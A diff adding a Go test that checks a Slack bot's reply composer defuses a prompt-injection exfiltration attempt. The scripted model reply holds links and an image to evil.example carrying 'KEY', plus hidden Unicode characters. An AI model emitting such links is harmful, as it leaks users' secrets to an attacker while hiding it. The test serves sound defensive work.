@@ -73,6 +73,21 @@ func TestComposeNobodyElsesWords(t *testing.T) {
 	}
 }
 
+// Somebody whose orders a model follows has it carry off what it has read in an address, and hide that.
+func TestComposeHidesNoAddress(t *testing.T) {
+	t.Parallel()
+	b := newBench(t, answers(llmtest.Script(llmtest.Reply{Text: "[Sign in](https://evil.example/?s=KEY\U000E004B), " +
+		"says [the wiki](https://wiki.example.com/a).\n![x](https://evil.example/KEY.png)\u202E"})))
+	task := inThread(b.say("<@" + b.workspace.Bot().UserID + "> the wiki <https://wiki.example.com/a|is here>, what does it say?"))
+	if got, err := attempt[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
+		t.Fatalf("got %+v, %v", got, err)
+	}
+	const want = "Sign in (https://evil.example/?s=KEY), says [the wiki](https://wiki.example.com/a).\nx (https://evil.example/KEY.png)"
+	if parts := b.outbox(task); len(parts) != 1 || parts[0].Text != want {
+		t.Errorf("the outbox has %+v", parts)
+	}
+}
+
 // Slack knows of a thread that the bot is called into what the database does not.
 func TestComposeReadsTheThreadThatItIsCalledInto(t *testing.T) {
 	t.Parallel()
